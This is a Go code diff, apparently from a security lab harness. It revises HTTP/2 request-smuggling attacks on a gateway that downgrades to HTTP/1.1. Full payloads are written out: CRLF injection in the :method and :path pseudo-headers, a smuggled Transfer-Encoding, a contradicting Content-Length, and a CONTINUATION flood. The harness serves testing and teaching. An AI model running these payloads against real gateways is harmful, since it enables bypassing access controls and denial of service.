@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"io"
 	"net"
+	"strings"
 	"time"
 
 	"golang.org/x/net/http2"
@@ -119,7 +120,8 @@ func pseudo(method, path, authority string) []string {
 // behind, and frames without end.
 func http2Attacks() []Attack {
 	var list []Attack
-	// inject sends one request to the legacy service; data is its body, if any.
+	// inject sends one request to the legacy service; data is its body, if any, in
+	// which {run} stands for the mark.
 	inject := func(name, title string, effect string, fields func(a *attempt, authority string) []string, data string) {
 		list = append(list, Attack{Name: "h2-" + name, Title: title, Class: API8, Room: "gateway",
 			OnlyGateway: "services behind speak HTTP/1.1", run: func(a *attempt) (bool, error) {
@@ -128,7 +130,7 @@ func http2Attacks() []Attack {
 				if err != nil || status != "200" {
 					return false, fmt.Errorf("%w: a lawful request: %q %w", errInconclusive, status, err)
 				}
-				if _, err := a.request2(svc, append(fields(a, a.host(svc)), "x-lab-run", a.run), data); err != nil {
+				if _, err := a.request2(svc, append(fields(a, a.host(svc)), "x-lab-run", a.run), strings.ReplaceAll(data, "{run}", a.run)); err != nil {
 					return false, err
 				}
 				if effect == "host" {
@@ -137,7 +139,7 @@ func http2Attacks() []Attack {
 				return a.soon(func() bool { return a.did(effect) }), nil
 			}})
 	}
-	const hidden = "GET /v0/users HTTP/1.1\r\nHost: x\r\n"
+	const hidden = "GET /v0/users HTTP/1.1\r\nHost: x\r\n" + RunHeader + ": {run}\r\n\r\n"
 	inject("method", "a request line in :method", "zombie.version", func(a *attempt, authority string) []string {
 		return pseudo("GET /v0/users HTTP/1.1\r\nX: ", "/v0/status", authority)
 	}, "")
@@ -145,7 +147,7 @@ func http2Attacks() []Attack {
 		return pseudo("GET /v0/users", "/v0/status", authority)
 	}, "")
 	inject("path", "a request in :path", "zombie.version", func(a *attempt, authority string) []string {
-		return pseudo("GET", "/v0/status HTTP/1.1\r\nHost: x\r\n\r\n"+hidden+RunHeader+": "+a.run+"\r\n\r\n", authority)
+		return pseudo("GET", "/v0/status HTTP/1.1\r\nHost: x\r\n\r\n"+strings.ReplaceAll(hidden, "{run}", a.run), authority)
 	}, "")
 	inject("path-space", "a space in :path", "zombie.version", func(a *attempt, authority string) []string {
 		return pseudo("GET", "/v0/users HTTP/1.1", authority)
@@ -170,10 +172,10 @@ func http2Attacks() []Attack {
 	}, "")
 	inject("te", "Transfer-Encoding over HTTP/2", "zombie.version", func(a *attempt, authority string) []string {
 		return append(pseudo("POST", "/v0/feedback", authority), "transfer-encoding", "chunked")
-	}, "0\r\n\r\n"+hidden+"\r\n")
+	}, "0\r\n\r\n"+hidden)
 	inject("cl", "a Content-Length that the frames contradict", "zombie.version", func(a *attempt, authority string) []string {
 		return append(pseudo("POST", "/v0/feedback", authority), "content-length", "2")
-	}, "{}"+hidden+"\r\n")
+	}, "{}"+hidden)
 	return append(list,
 		Attack{Name: "h2-continuation", Title: "a header that goes on for ever (CONTINUATION flood)", Class: API4, Room: "gateway",
 			OnlyGateway: "services behind speak HTTP/1.1", run: continuationFlood},
